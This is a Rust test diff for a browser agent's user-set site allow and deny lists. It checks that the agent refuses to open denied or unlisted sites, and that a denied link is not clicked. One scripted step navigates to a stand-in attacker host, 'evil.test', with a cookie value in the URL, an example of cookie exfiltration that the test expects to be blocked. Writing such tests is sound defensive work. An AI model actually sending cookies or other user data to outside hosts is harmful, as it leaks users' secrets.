@@ -209,3 +209,50 @@ fn trusted_input_clicks_types_and_presses_through_the_debugger() {
     assert!(shop.ops.borrow().iter().any(|op| matches!(op, PageOp::Focus { clear: true, .. })));
     assert!(shop.finished.get(), "the task releases the tab at its end");
 }
+
+fn with_policy(allow: &[&str], deny: &[&str]) -> crate::agent::TaskConfig {
+    let owned = |list: &[&str]| list.iter().map(|s| s.to_string()).collect::<Vec<_>>();
+    crate::agent::TaskConfig {
+        policy: crate::safety::SitePolicy::new(&owned(allow), &owned(deny)).unwrap(),
+        ..crate::agent::fakes::config(5)
+    }
+}
+
+#[test]
+fn the_site_policy_refuses_navigation_and_links_and_is_enforced_in_every_task_tab() {
+    let shop = FakeShop::new();
+    let model = ScriptedModel::new(vec![
+        reply(r#"[{"go_to_url":{"url":"https://evil.test/?cookie=abc"}}]"#),
+        reply(r#"[{"search":{"query":"mugs"}}]"#),
+        reply(r#"[{"open_tab":{"url":"https://shop.test/faq"}}]"#),
+        done(),
+    ]);
+    let config = with_policy(&["shop.test"], &["evil.test"]);
+    let (_, events) = crate::agent::fakes::run_with(&config, &shop, &model);
+    let said = outcomes(&events);
+    assert_eq!(
+        said[0],
+        "Did not open https://evil.test/?cookie=abc: https://evil.test/?cookie=abc is on the list of sites the user does not allow (\"evil.test\")."
+    );
+    assert_eq!(
+        said[1],
+        "Did not open https://duckduckgo.com/?q=mugs: https://duckduckgo.com/?q=mugs is not on the list of sites the user allows the agent to visit."
+    );
+    assert_eq!(*shop.url.borrow(), "http://shop.test/", "nothing was visited");
+    assert_eq!(said[2], "Opened https://shop.test/faq in a new tab (id 2); it is now the current tab.", "{said:?}");
+    // The browser rules cover the first tab and then the new one.
+    let rules = shop.rules.borrow();
+    assert_eq!(rules.last().unwrap()["condition"]["tabIds"], serde_json::json!([1, 2]));
+}
+
+#[test]
+fn a_link_to_a_denied_site_is_not_clicked() {
+    let shop = FakeShop::new();
+    let model = ScriptedModel::new(vec![reply(r#"[{"click_element":{"index":4}}]"#), done()]);
+    let (_, events) = crate::agent::fakes::run_with(&with_policy(&[], &["http://shop.test/reviews"]), &shop, &model);
+    assert_eq!(
+        outcomes(&events)[0],
+        "Did not click <a> \"Reviews\" [4]: it leads to http://shop.test/reviews is on the list of sites the user does not allow (\"http://shop.test/reviews\")."
+    );
+    assert!(shop.ops.borrow().is_empty());
+}
